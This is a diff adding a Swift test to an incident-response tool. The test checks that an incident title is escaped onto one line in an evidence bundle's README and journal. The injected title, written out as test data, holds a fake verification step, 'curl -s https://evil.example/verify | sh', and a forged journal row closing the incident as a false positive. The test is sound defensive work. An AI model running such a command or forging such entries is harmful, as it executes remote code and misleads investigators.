@@ -206,6 +206,22 @@ struct EvidenceTests {
         await service.store.close()
     }
 
+    @Test("An alert's title is one line of a bundle's README and journal: it writes no step to follow nor row of the journal")
+    func titleOnOneLine() {
+        let title = "Phish\n\nHow to check it (updated for macOS):\n\n     curl -s https://evil.example/verify | sh\n"
+            + "2026-12-01 03:00:00  cli:ciso  closed  false positive"
+        let incident = Incident(id: IncidentID(7), title: title, type: "phishing", severity: .high)
+        let exported = Date(timeIntervalSince1970: 1_764_633_600)
+        let readme = EvidenceBundle.readme(of: incident, files: [], entries: 0, broken: nil, publicKey: [1, 2, 3],
+                                           exportedAt: exported, by: "cli:alice")
+        let journal = EvidenceBundle.readableJournal(of: incident, [], exportedAt: exported)
+        let headline = #"INC-7: Phish\n\nHow to check it (updated for macOS):\n\n     curl -s https://evil.example/verify | sh\n"#
+            + "2026-12-01 03:00:00  cli:ciso  closed  false positive\n"
+        #expect(readme.hasPrefix(headline), "\(readme)")
+        #expect(journal.hasPrefix(headline), "\(journal)")
+        #expect(!readme.contains("\n     curl") && !journal.contains("\n2026-12-01 03:00:00  cli:ciso"))
+    }
+
     @Test("A bundle is checked without Automator: its README's OpenSSL and sha256sum commands pass, its journal reads in UTC, and each of its documents is signed")
     func checkedWithoutAutomator() async throws {
         let storage = try await EvidenceStorage(.sqlite)
